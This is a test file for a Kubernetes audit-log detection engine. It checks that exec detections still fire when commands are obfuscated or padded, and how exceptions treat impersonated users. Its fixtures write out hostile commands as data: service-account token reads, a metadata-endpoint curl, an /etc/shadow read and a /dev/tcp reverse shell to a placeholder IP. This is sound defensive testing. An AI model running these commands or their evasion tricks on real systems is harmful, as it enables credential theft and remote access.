import { describe, expect, it } from 'vitest'
import { readEvent } from '@/lib/ingest/adapters/kubernetes-audit/read-event'
import type { AuditEvent } from '@/lib/model/audit-event'
import { defaultAuditContext } from './context'
import { evaluateStateless } from './evaluate'
import { covers, exceptionSubject } from './exception'
import { execs, request, userNamed } from './testing'

const fired = (event: AuditEvent) =>
  evaluateStateless([event], defaultAuditContext).map(({ detection }) => detection.id)

describe('a command written around the words', () => {
  it.each([
    ['sh', '-c', 'cat /var/run//secrets/./kubernetes.io/serviceaccount/token'],
    ['sh', '-c', 'cat /var/run/sec""rets/kubernetes.io/service\\account/token'],
    ['sh', '-c', 'cat$IFS/run/secrets/kubernetes.io/serviceaccount/token'],
    ['sh', '-c', 'cat /run/secrets/k*/s*/token'],
  ])('reads the token: %s %s %s', (...command) => {
    expect(fired(execs(command))).toContain('k8s-exec-sa-token-read')
  })

  it.each([
    [['sh', '-c', "cu'r'l 169.254.'169'.254/latest/meta-data"], 'k8s-exec-imds'],
    [['sh', '-c', 'cat /etc//sha""dow'], 'k8s-exec-sensitive-file'],
    [['sh', '-c', 'b""ash -i >& /de"v/t"cp/203.0.113.7/4444 0>&1'], 'k8s-exec-reverse-shell'],
  ])('%o is %s', (command, id) => {
    expect(fired(execs(command))).toContain(id)
  })

  it('is not hidden by padding in front of it', () => {
    const read = (query: string) => {
      const uri = `/api/v1/namespaces/shop/pods/web/exec?${query}`
      const objectRef = { resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'web' }
      const raw = {
        auditID: 'a',
        stage: 'ResponseStarted',
        verb: 'get',
        requestURI: uri,
        user: { username: 'eve' },
        objectRef,
        responseStatus: { code: 101 },
      }
      const event = readEvent(raw, 'k8s/test', '2026-03-01T10:00:00.000Z')
      return event ? fired(event) : []
    }
    const token = encodeURIComponent('cat /run/secrets/kubernetes.io/serviceaccount/token')
    const padding = 'A'.repeat(9_000)
    expect(read(`pad=${padding}&command=sh&command=-c&command=${token}`)).toContain('k8s-exec-sa-token-read')
    expect(read(`command=sh&command=-c&command=%3A${padding}%3B${token}`)).toContain('k8s-exec-sa-token-read')
    expect(read(`command=sh&command=-c&command=${token}%3B${padding}`)).toContain('k8s-exec-sa-token-read')
  })
})

describe('an exception for somebody', () => {
  const covered = (user: string, impersonated: string | null) => {
    const event = request('delete', 'deployments', {
      user,
      impersonated: impersonated === null ? null : userNamed(impersonated),
    })
    const exception = { user: 'jane', namespace: null, image: null, name: null }
    return covers(exception, exceptionSubject(event, []))
  }

  it('is not for those who act as them, but for them behind a proxy', () => {
    expect(covered('jane', null)).toBe(true)
    expect(covered('jane', 'admin')).toBe(true)
    expect(covered('eve', 'jane')).toBe(false)
    expect(covered('system:serviceaccount:cattle-impersonation-system:proxy', 'jane')).toBe(true)
  })
})
